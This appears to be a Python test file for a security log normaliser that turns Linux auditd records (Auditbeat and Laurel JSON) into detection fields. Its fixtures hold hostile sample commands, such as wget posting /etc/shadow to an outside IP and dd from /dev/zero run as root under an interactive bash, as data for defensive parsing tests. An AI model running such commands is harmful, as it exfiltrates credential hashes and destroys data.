from __future__ import annotations

from datetime import UTC, datetime

from hypothesis import given

from normalise.linux.reading import CONTEXT, logsources, objects_with, read_object
from otasuke.normalise.linux.auditd_json import AUDITD_BEATS, AUDITD_LAUREL

AUDITBEAT = {
    "@timestamp": "2026-11-22T03:00:00.000Z",
    "host": {"hostname": "web01"},
    "event": {"module": "auditd", "category": ["process"], "action": "executed"},
    "tags": ["susp_activity"],
    "user": {"id": "33", "name": "www-data", "audit": {"id": "1000"}},
    "process": {
        "pid": 20,
        "parent": {"pid": 10},
        "name": "wget",
        "executable": "/usr/bin/wget",
        "args": ["wget", "--post-file=/etc/shadow", "203.0.113.9"],
        "working_directory": "/var/www",
    },
    "auditd": {
        "message_type": "syscall",
        "result": "success",
        "data": {"syscall": "execve", "a0": "558e25052c70", "arch": "x86_64"},
        "paths": [{"name": "/usr/bin/wget", "nametype": "NORMAL"}, {"name": "/tmp/.x", "nametype": "CREATE"}],
    },
}
LAUREL = {
    "ID": "1604996384.965:93777",
    "NODE": "web01",
    "SYSCALL": {"arch": "0xc000003e", "syscall": 59, "uid": 0, "exe": "/bin/dd", "comm": "dd", "UID": "root"},
    "EXECVE": {"argc": 2, "ARGV": ["dd", "if=/dev/zero"]},
    "CWD": {"cwd": "/root"},
    "PATH": [{"item": 0, "name": "/bin/dd", "nametype": "NORMAL"}],
    "PARENT_INFO": {"ID": "1604996380.1:1", "comm": "bash", "exe": "/bin/bash", "ARGV": ["bash", "-i"]},
}


def test_an_auditbeat_event_stands_for_all_its_records():
    event = read_object(AUDITD_BEATS, AUDITBEAT)

    assert logsources(event) == {"linux/*/auditd", "linux/process_creation/*", "linux/file_event/*"}
    assert event.fields["type"] == ("SYSCALL", "EXECVE", "PATH")
    assert event.fields["SYSCALL"] == "execve"
    assert (event.fields["a0"], event.fields["a1"]) == ("wget", "--post-file=/etc/shadow")
    assert event.fields["euid"] == "33"
    assert event.fields["key"] == "susp_activity"
    assert event.fields["name"] == ("/usr/bin/wget", "/tmp/.x")
    assert event.fields["TargetFilename"] == "/tmp/.x"
    assert event.fields["CommandLine"] == "wget --post-file=/etc/shadow 203.0.113.9"
    assert event.fields["CurrentDirectory"] == "/var/www"
    assert event.sensor == "web01"


def test_arguments_of_other_system_calls_stay_as_sent():
    auditd = {"message_type": "syscall", "data": {"syscall": "personality", "a0": "40000"}}

    event = read_object(AUDITD_BEATS, {**AUDITBEAT, "auditd": auditd})

    assert event.fields["a0"] == "40000"
    assert event.fields["type"] == "SYSCALL"
    assert logsources(event) == {"linux/*/auditd"}


def test_a_filebeat_event_is_one_record():
    record = {
        "event": {"action": "execve"},
        "auditd": {"log": {"a0": "tar", "a1": "-cf", "sequence": 7}},
        "process": {"executable": "/bin/tar"},
    }

    event = read_object(AUDITD_BEATS, record)

    assert event.fields == {"type": "EXECVE", "exe": "/bin/tar", "a0": "tar", "a1": "-cf", "sequence": "7"}


def test_a_laurel_event_stands_for_all_its_records():
    event = read_object(AUDITD_LAUREL, LAUREL)

    assert logsources(event) == {"linux/*/auditd", "linux/process_creation/*"}
    assert event.time == datetime(2020, 11, 10, 8, 19, 44, 965000, tzinfo=UTC)
    assert event.sensor == "web01"
    assert event.fields["type"] == ("SYSCALL", "EXECVE", "CWD", "PATH")
    assert event.fields["SYSCALL"] == "execve"
    assert event.fields["CommandLine"] == "dd if=/dev/zero"
    assert event.fields["Image"] == "/bin/dd"
    assert event.fields["User"] == "root"
    assert event.fields["ParentImage"] == "/bin/bash"
    assert event.fields["ParentCommandLine"] == "bash -i"
    assert event.fields["CurrentDirectory"] == "/root"


def test_other_objects_with_an_id_are_not_laurels():
    assert not AUDITD_LAUREL.recognises({"ID": "42", "SYSCALL": {}})
    assert not AUDITD_LAUREL.recognises({"ID": "1.2:3", "SYSCALL": "x"})


@given(
    objects_with(
        "auditd", "data", "log", "paths", "process", "args", "syscall", "user", "host", "message_type", "event"
    )
)
def test_any_beats_object_is_an_event(record):
    AUDITD_BEATS.recognises(record)

    AUDITD_BEATS.to_event(record, CONTEXT, 0)


@given(objects_with("ID", "NODE", "SYSCALL", "EXECVE", "ARGV", "CWD", "PATH", "PARENT_INFO", "name", "syscall", "arch"))
def test_any_laurel_object_is_an_event(record):
    AUDITD_LAUREL.recognises(record)

    AUDITD_LAUREL.to_event(record, CONTEXT, 0)
